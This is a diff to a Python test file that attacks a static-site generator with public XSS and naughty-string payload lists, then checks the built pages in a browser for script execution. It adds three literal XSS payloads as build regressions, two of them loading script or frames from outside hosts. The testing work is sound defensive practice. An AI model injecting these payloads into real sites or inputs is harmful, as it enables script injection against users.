@@ -1,11 +1,13 @@
-"""Attacked as an outsider would: public payload lists (tests/attack/, see SOURCES.md)
-planted in every free-text front-matter field of every kind, in bodies, and in link and
+"""Attacked as an outsider would: the public payload lists of ../shared/attack/ (see its
+SOURCES.md; read there, never copied into the project) planted in every free-text front-matter
+field of every kind, in bodies (inside a paragraph and on a line of their own), and in link and
 image targets; validated, built for real, every output file parsed, and every page that
 shows a planted string opened in Chromium with a sentinel on every way to announce script.
 
 What must hold: no traceback, every rejection with the file and the line of the payload,
 the build passes its own scan, every XML/JSON/CSV output reads, and nothing executes.
-The suite runs a deterministic sample; `benchmarks/attack_bench.py --all` runs everything.
+The suite runs a deterministic sample of each list; `benchmarks/attack_bench.py` runs every
+list whole.
 """
 
 from __future__ import annotations
@@ -22,25 +24,29 @@ from pathlib import Path
 import markdown
 import pytest
 
-from attack_corpus import blns, sample, xss_payloads
-from attack_site import EXECUTED, SENTINEL, Corpus, Placement, plant
+import attack_corpus
+from attack_site import EXECUTED, SENTINEL, Corpus, Placement, page_refused, plant
 from browser import CHROMIUM_ARGS, require_chromium, serve
 from generator.indexing import load_knowledge_base
 from generator.sanitize import clean_body
 from helpers import new_content
 from sitebuild import mkdocs_build
 
-SAMPLE = int(os.environ.get("KB_ATTACK_SAMPLE", "120"))
+SAMPLE = int(os.environ.get("KB_ATTACK_SAMPLE", "60"))  # payloads of each list
 # Payloads point images and frames at outside hosts: every name but localhost fails at once
 # (offline, each would otherwise wait for a time-out).
 OFFLINE = ["--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1"]
 
 
+# Bodies that once passed validation and then stopped the whole build (site-unclean): an
+# unclosed tag on a line of its own, whose raw block swallowed the rest of the page.
+STOPPED_THE_BUILD = ["<iframe src=http://ha.ckers.org/scriptlet.html <", "<iframe/onreadystatechange=alert(1)",
+                     "<sCriPt/src=//14.rs?"]
+
+
 def corpus_payloads(n: int | None = SAMPLE) -> list[tuple[str, str]]:
-    xss, naughty = xss_payloads(), blns()
-    if n is not None:
-        xss, naughty = sample(xss, n), sample(naughty, n)
-    return [("xss", p) for p in xss] + [("blns", p) for p in naughty]
+    """(list, payload) for every list of ../shared/attack/, each sampled to ``n`` (None: whole)."""
+    return attack_corpus.payloads(n)
 
 
 def judge(kb, placements: list[Placement]) -> dict[str, list[Placement]]:
@@ -65,7 +71,7 @@ def judge(kb, placements: list[Placement]) -> dict[str, list[Placement]]:
 def attacked(tmp_path_factory):
     project = tmp_path_factory.mktemp("attack")
     content = new_content(project)
-    corpus, verdict, kb = attack(content, corpus_payloads())
+    corpus, verdict, kb = attack(content, corpus_payloads() + [("regression", p) for p in STOPPED_THE_BUILD])
     result = mkdocs_build(project)
     return project, corpus, kb, verdict, result
 
@@ -99,6 +105,7 @@ def attack(content: Path, payloads: list[tuple[str, str]]):
             verdict[k] += new[k]
     for rel in {pl.rel for pl in verdict["at line"] + verdict["elsewhere"]}:
         (content / rel).unlink(missing_ok=True)
+    verdict["stops the build"] = aborting(verdict, content)  # judged one file at a time, before merging
     _merge_bodies(content, verdict["accepted"])
     return corpus, verdict, kb
 
@@ -136,6 +143,7 @@ def test_no_traceback_and_every_rejection_at_the_payloads_line(attacked):
 
 def test_the_attacked_site_builds_and_passes_its_own_scan(attacked):
     project, _, _, verdict, result = attacked
+    assert verdict["stops the build"] == []
     assert result.returncode == 0, result.stderr[-3000:]
     assert "Traceback" not in result.stderr
     assert len(verdict["accepted"]) > SAMPLE
@@ -226,6 +234,20 @@ def _md(text: str) -> str:
     """The body as the engine renders it: Python-Markdown with mkdocs.yml's extensions."""
     return markdown.markdown(text, extensions=["tables", "attr_list", "md_in_html", "admonition", "def_list",
                                                "toc"])
+
+
+PLACEMENTS = ("front matter", "body", "body line", "link target", "image target")
+
+
+def aborting(verdict: dict[str, list[Placement]], content: Path) -> list[Placement]:
+    """Accepted body placements whose page the build would refuse, stopping the whole build."""
+    out = []
+    for pl in verdict["accepted"]:
+        if not pl.where.startswith("front matter"):
+            body = (content / pl.rel).read_text(encoding="utf-8").split("\n---\n", 1)[1]
+            if page_refused(body):
+                out.append(pl)
+    return out
 
 
 def placement_figures(verdict: dict[str, list[Placement]]) -> Counter:
